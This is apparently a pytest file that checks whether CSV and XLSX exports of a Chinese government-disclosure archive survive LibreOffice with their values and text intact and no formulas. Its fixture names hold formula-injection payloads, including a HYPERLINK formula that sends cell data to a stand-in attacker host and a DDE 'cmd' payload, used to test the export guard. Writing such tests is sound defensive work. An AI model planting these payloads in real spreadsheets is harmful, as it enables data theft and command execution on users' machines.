"""Downloads opened by LibreOffice and written back: the same values, the same Chinese, no formula."""

from __future__ import annotations

import csv
import io
import shutil
import sqlite3
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from datasette.app import Datasette

from publish.dictionary import dictionary
from publish.serve import build_app
from publish.snippets import unmarked
from publish.spreadsheet import guarded, plain
from tests.publish.conftest import build_archive

pytestmark = pytest.mark.anyio

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
needs_libreoffice = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (make renderers)")

SECONDS = 180
LONG_NAME = "云溪县" + "自然资源和规划建设城市管理综合行政执法" * 12 + "局"
NAMES = {
    "o-long": LONG_NAME,
    "o-call": "=HYPERLINK(\"http://attacker.invalid/?\"&A1,\"点我\")",
    "o-plus": "+cmd|' /C calc'!A0",
    "o-minus": "-2+3 虚构局",
    "o-at": "@SUM(1+1)*虚构局",
    "o-tab": "\t=1+1",
    "o-wide": "＝1＋1 全角局",
    "o-rare": "㑇㐂𠮷𡃁镕喆堃局",
    "o-comma": "甲、乙,\"丙\";丁局",
    "o-lines": "上\n下局",
    "o-zero": "0",
    "326821e30098": "编号像乘方的局",
    "012345678901": "编号以零开头的局",
    "12345678901234567": "编号很长的局",
}  # fmt: skip
TABLES = ("organs", "requests", "reviews", "disclosures", "sections", "findings")
# What LibreOffice's import preselects for a file with a byte order mark: commas, double quotes, UTF-8.
AS_CSV = "Text - txt - csv (StarCalc):44,34,76,1"
Rows = list[list[Any]]


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = build_archive(tmp_path_factory.mktemp("spreadsheets") / "archive.db")
    conn = sqlite3.connect(path)
    with conn:
        conn.executemany(
            "insert into organs (id, name, level, kind) values (?, ?, 'county', 'department')", list(NAMES.items())
        )
        conn.execute("update disclosures set value = 0.1 where item = 'regulations' and measure = 'issued'")
    conn.close()
    return path


def _stored(archive: Path, table: str) -> Rows:
    columns = ", ".join(dictionary().tables[table].columns)
    conn = sqlite3.connect(archive)
    try:
        return [list(row) for row in conn.execute(f"select {columns} from {table}")]
    finally:
        conn.close()


async def _download(site: Datasette, folder: Path, suffix: str) -> dict[str, Path]:
    """Every table as ``suffix`` with Chinese heads and without the names beside codes, as files in ``folder``."""
    files = {}
    for table in TABLES:
        response = await site.client.get(f"/-/export/archive/{table}.{suffix}?_labels=off")
        assert response.status_code == 200, response.text
        files[table] = folder / f"{table}.{suffix}"
        files[table].write_bytes(response.content)
    return files


def _through_libreoffice(folder: Path, files: dict[str, Path], *options: str) -> dict[str, Path]:
    """Open every file in LibreOffice and save it as a workbook."""
    assert SOFFICE
    out = folder / "out"
    command = [SOFFICE, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", *options]
    done = subprocess.run(
        [*command, "--convert-to", "xlsx", "--outdir", str(out), *map(str, files.values())],
        capture_output=True, text=True, timeout=SECONDS, check=False,
    )  # fmt: skip
    written = {table: out / f"{table}.xlsx" for table in files}
    assert all(path.is_file() for path in written.values()), done.stderr
    return written


def _workbook(path: Path) -> tuple[list[Any], Rows]:
    [head, *rows] = openpyxl.load_workbook(path).active.iter_rows()
    assert not [cell.value for row in (head, *rows) for cell in row if cell.data_type == "f"], "a formula"
    return [cell.value for cell in head], [[cell.value for cell in row] for row in rows]


def _heads(table: str) -> list[str]:
    return [dictionary().heading(table, column) for column in dictionary().tables[table].columns]


def _differences(expected: Rows, got: Rows, same: Callable[[Any, Any], bool]) -> list[tuple[Any, Any]]:
    assert len(expected) == len(got)
    wanted, found = (sorted(rows, key=lambda row: str([str(cell) for cell in row[:3]])) for rows in (expected, got))
    return [
        pair
        for one, other in zip(wanted, found, strict=True)
        for pair in zip(one, other, strict=True)
        if not same(*pair)
    ]


def _exactly(expected: Any, got: Any) -> bool:
    """Null is an empty cell and nothing else is; numbers are numbers, text is text."""
    if expected is None or expected == "":
        return got is None
    return isinstance(got, str) == isinstance(expected, str) and got == expected


def _as_typed(expected: Any, got: Any) -> bool:
    """As :func:`_exactly`, but a program that opens CSV may take text that is a number for one."""
    return _exactly(expected, got) or (isinstance(expected, str) and str(got) == expected.replace(",", ""))


@needs_libreoffice
async def test_workbooks_come_back_the_same(archive: Path, tmp_path: Path) -> None:
    files = await _download(build_app(archive), tmp_path, "xlsx")
    for table, path in _through_libreoffice(tmp_path, files).items():
        head, rows = _workbook(path)
        assert head == _heads(table)
        expected = [[plain(cell) for cell in row] for row in _stored(archive, table)]
        assert _differences(expected, rows, _exactly) == []


@needs_libreoffice
async def test_csv_opens_with_its_chinese_and_without_formulas(archive: Path, tmp_path: Path) -> None:
    files = await _download(build_app(archive), tmp_path, "csv")
    for table, path in _through_libreoffice(tmp_path, files, f"--infilter={AS_CSV}").items():
        head, rows = _workbook(path)
        assert head == _heads(table)
        expected = [[guarded(cell) for cell in row] for row in _stored(archive, table)]
        assert _differences(expected, rows, _as_typed) == []


async def test_editions_differ_in_the_guard_alone(archive: Path) -> None:
    """The edition for spreadsheets has a byte order mark and apostrophes; the one for programs is what is stored."""
    site = build_app(archive)
    for table in TABLES:
        edition = await site.client.get(f"/-/export/archive/{table}.csv?_labels=off&_header=code")
        raw = await site.client.get(f"/archive/{table}.csv?_stream=on")
        assert edition.content.startswith(b"\xef\xbb\xbf")
        assert not raw.content.startswith(b"\xef\xbb\xbf")
        columns = list(dictionary().tables[table].columns)
        stored = [["" if cell is None else str(cell) for cell in row] for row in _stored(archive, table)]
        for content, clean in ((edition.content, lambda cell: guarded(unmarked(cell))), (raw.content, str)):
            head, *rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
            found = [[row[head.index(column)] for column in columns] for row in rows]
            expected = [[clean(cell) for cell in row] for row in stored]
            assert sorted(found) == sorted(expected)
